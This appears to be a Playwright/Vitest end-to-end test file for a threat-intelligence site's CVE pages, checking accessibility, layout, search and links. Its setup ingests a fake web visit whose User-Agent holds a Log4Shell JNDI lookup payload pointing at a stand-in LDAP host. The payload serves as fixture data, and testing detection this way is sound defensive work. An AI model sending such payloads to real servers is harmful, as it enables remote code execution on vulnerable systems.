import type { Browser } from 'playwright-core'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { cveSources } from '#sources/cve/all.ts'
import { importCveSource } from '#sources/cve/import.ts'
import { samples } from '#sources/cve/testing/samples.ts'
import { captureOf, webVisit } from '../product/captures.ts'
import { openInside, type Inside } from '../product/inside.ts'
import { violations } from './accessible.ts'
import { openBrowser } from './open.ts'
import { sideways, visit } from './visitor.ts'

let inside: Inside
let browser: Browser
const tried = '/cves/CVE-2021-44228'
const described = '/cves/CVE-2024-0001'

async function* one(text: string): AsyncGenerator<Uint8Array> {
  yield Buffer.from(text)
}

beforeAll(async () => {
  ;[inside, browser] = await Promise.all([openInside(), openBrowser()])
  const { deps } = inside
  const now = Date.now()
  for (const source of cveSources)
    await importCveSource(
      deps.analytics,
      { ...source, minRows: 1 },
      [one(samples[source.name]?.content ?? '')],
      { now },
    )
  const workspace = await deps.installation.workspaces.create({ name: 'Own', publish: true, now })
  const { secret } = await deps.installation.keys.create({ workspace: workspace.id, now })
  const jndi = { uri: '/', userAgent: '${jndi:ldap://203.0.113.5/a}' }
  const body = new Uint8Array(captureOf([webVisit('198.18.7.1', jndi, now - 60_000)]))
  const taken = await fetch(new URL('/api/ingest/captures', inside.url), {
    method: 'POST',
    body,
    headers: { key: secret },
  })
  expect(taken.status).toBe(200)
  for (let wait = 0; wait < 300; wait++) {
    const answer = await fetch(new URL('/v1/cve/CVE-2021-44228', inside.url))
    if ((await answer.text()).includes('"threat_ip_count_1d":1')) break
    await new Promise((tick) => setTimeout(tick, 200))
  }
})
afterAll(async () => {
  await browser?.close()
  await inside?.close()
})

test.each([
  ['light', 1440],
  ['dark', 1440],
  ['light', 320],
  ['dark', 320],
] as const)(
  'the page of a CVE has no barrier and does not scroll sideways: %s, %i px',
  async (colorScheme, width) => {
    for (const path of [tried, described]) {
      const visitor = await visit(browser, inside.url, { colorScheme, viewport: { width, height: 800 } })
      await visitor.page.goto(path)
      expect(
        await violations(visitor.page, ['wcag2a', 'wcag2aa', 'wcag21a', 'wcag21aa', 'wcag22aa']),
      ).toEqual([])
      expect(await sideways(visitor.page)).toEqual([])
      expect(visitor.problems).toEqual([])
      await visitor.leave()
    }
  },
)

test('its search, its days and its links lead on', async () => {
  const { page, problems, leave } = await visit(browser, inside.url)
  await page.goto('/')
  await page.getByRole('search').first().getByRole('combobox').fill('cve-2021-44228')
  await page.keyboard.press('Enter')
  await page.waitForURL(`**${tried}`)
  await page.getByRole('heading', { level: 1, name: 'CVE-2021-44228' }).waitFor()
  // The days of the chart are those of the table below it, as far as that counts whole ones.
  expect(
    await page.getByRole('navigation', { name: 'Days shown' }).getByRole('link').allInnerTexts(),
  ).toEqual(['10 days', '30 days', '90 days'])
  for (const name of ['Last 24 hours', 'Last 10 days', 'Last 30 days'])
    await page.getByRole('columnheader', { name, exact: true }).waitFor()
  await page.getByRole('link', { name: '90 days', exact: true }).click()
  await page.waitForURL(/\?days=90$/)
  await page.getByRole('link', { name: '1 address in 90 days' }).click()
  await page.waitForURL(/\/query\//)
  await page.getByText('198.18.7.1').first().waitFor()
  expect(problems).toEqual([])
  await leave()
})

test('the list fits its panel on a small laptop', async () => {
  for (const width of [1024, 1440]) {
    const { page, leave } = await visit(browser, inside.url, { viewport: { width, height: 800 } })
    await page.goto('/cves')
    const table = page.getByRole('region', { name: 'CVEs found' })
    expect([width, await table.evaluate((it) => it.scrollWidth - it.clientWidth)]).toEqual([width, 0])
    expect(await page.getByRole('columnheader', { name: 'Tags' }).count()).toBe(width < 1400 ? 0 : 1)
    await leave()
  }
})

test('the list shows what is tried here first, is searched by product and by id, and leads to the page', async () => {
  for (const javaScriptEnabled of [true, false]) {
    const { page, problems, leave } = await visit(browser, inside.url, { javaScriptEnabled })
    await page.goto('/cves')
    const rows = page.getByRole('region', { name: 'CVEs found' }).locator('tbody tr')
    expect(await rows.count()).toBe(25)
    expect(await rows.first().innerText()).toContain('CVE-2021-44228')
    await page.getByRole('link', { name: 'Next page' }).click()
    await page.getByText(/^Page 2 of \d+$/).waitFor()
    const search = page.getByRole('searchbox', { name: 'Search CVEs' })
    await search.fill('cve 2024 0001')
    await search.press('Enter')
    await page.waitForURL(/search=/)
    await rows.getByRole('link', { name: 'CVE-2024-0001' }).waitFor()
    await search.fill('nothing of the kind')
    await search.press('Enter')
    await page.getByText('No matching CVEs found.').waitFor()
    await page.goto('/cve/CVE-2024-0001')
    expect(new URL(page.url()).pathname).toBe('/cves/CVE-2024-0001')
    expect(problems).toEqual([])
    await leave()
  }
})
